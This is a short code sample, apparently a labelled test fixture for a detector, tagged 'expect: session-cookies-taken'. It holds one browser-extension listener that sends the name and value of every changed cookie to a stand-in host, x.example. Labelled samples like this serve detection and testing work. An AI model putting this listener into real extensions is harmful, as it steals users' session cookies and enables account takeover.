// expect: session-cookies-taken
chrome.cookies.onChanged.addListener(function (info) { $.post("https://x.example/c", { n: info.cookie.name, v: info.cookie.value }); });
